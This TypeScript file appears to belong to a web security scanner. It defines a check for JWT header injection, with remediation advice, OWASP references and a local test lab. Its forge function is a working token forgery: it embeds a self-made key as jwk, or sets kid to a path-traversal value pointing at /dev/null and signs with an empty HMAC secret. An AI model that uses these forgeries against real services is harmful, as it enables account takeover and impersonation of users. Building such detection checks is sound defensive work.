import { createPublicKey, generateKeyPairSync, type KeyObject, sign, verify } from 'node:crypto';
import type { Nonce } from '../../experiment.ts';
import { tokenLab } from '../../labs/tokens.ts';
import { hmacOf, type Jwt, type KeyPair, writeJwt } from '../../shared/jwt.ts';
import { defineTokenCheck } from '../../shared/token-check.ts';

/** The token embeds its own key, or names an empty file as the key. */
type Way = 'jwk' | 'kid';

const signWith = (privateKey: KeyObject) => (signed: string) =>
  sign('sha256', Buffer.from(signed), privateKey).toString('base64url');
const signEmpty = (signed: string) => hmacOf('HS256', '', signed) ?? '';
const EMPTY_FILE = `${'../'.repeat(9)}dev/null`;

function forge({ header, claims }: Jwt, way: Way, _nonce: Nonce, keyPair: () => KeyPair): string {
  if (way === 'kid') return writeJwt({ ...header, alg: 'HS256', kid: EMPTY_FILE }, claims, signEmpty);
  const { publicKey, privateKey } = keyPair();
  const jwk = { ...publicKey.export({ format: 'jwk' }), use: 'sig' };
  return writeJwt({ ...header, alg: 'RS256', jwk }, claims, signWith(privateKey));
}

/** Same signature without a reference to the key. */
function control({ header, claims }: Jwt, way: Way, _nonce: Nonce, keyPair: () => KeyPair): string {
  return way === 'kid'
    ? writeJwt({ ...header, alg: 'HS256' }, claims, signEmpty)
    : writeJwt({ ...header, alg: 'RS256' }, claims, signWith(keyPair().privateKey));
}

export default defineTokenCheck<Way>({
  id: 'jwt-header-injection',
  title: 'JWT header injection: tokens choose their verification key',
  cwe: 347,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
  cvss4: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
  impact: 'An attacker signs a token for any account with a key of their own, and acts as that user.',
  asvs: '9.1.3',
  why: "The target takes the verification key from the token itself (jwk) or from a file that the token names (kid). An attacker signs tokens for any account with a key of their own. A token that we signed this way returned the account's data; the same signature without that header was refused.",
  fix: 'Verify tokens with configured keys only. Ignore jwk and jku in token headers, and use kid only to select from a fixed list of keys.',
  references: [
    'https://cheatsheetseries.owasp.org/cheatsheets/JSON_Web_Token_for_Java_Cheat_Sheet.html',
    'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/06-Session_Management_Testing/10-Testing_JSON_Web_Tokens',
    'https://cwe.mitre.org/data/definitions/347.html',
  ],
  ways: ['jwk', 'kid'],
  // A site with a single shared secret has no keys to select.
  waysFor: async ({ header: { alg, kid } }) => [
    ...(/^HS/.test(String(alg)) ? [] : (['jwk'] as const)),
    ...(kid === undefined ? [] : (['kid'] as const)),
  ],
  maxRequests: 160,
  forgery: (way) =>
    way === 'kid'
      ? `kid set to ${EMPTY_FILE} in the header, signed with HS256 and an empty secret`
      : 'a public key of our own as jwk in the header, signed with its private key',
  forge,
  control,
  lab() {
    const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const isBy = (key: KeyObject, { signed, signature }: Jwt) =>
      verify('sha256', Buffer.from(signed), key, Buffer.from(signature, 'base64url'));
    const isByItsOwnKey = (jwt: Jwt) => {
      const { jwk } = jwt.header;
      return typeof jwk === 'object' && jwk !== null && isBy(createPublicKey({ key: { ...jwk }, format: 'jwk' }), jwt);
    };
    const write = (sub: string) => writeJwt({ alg: 'RS256' }, { sub }, signWith(privateKey));
    return tokenLab(write, {
      vulnerable: (jwt) => isBy(publicKey, jwt) || isByItsOwnKey(jwt),
      safe: (jwt) => isBy(publicKey, jwt),
    });
  },
});
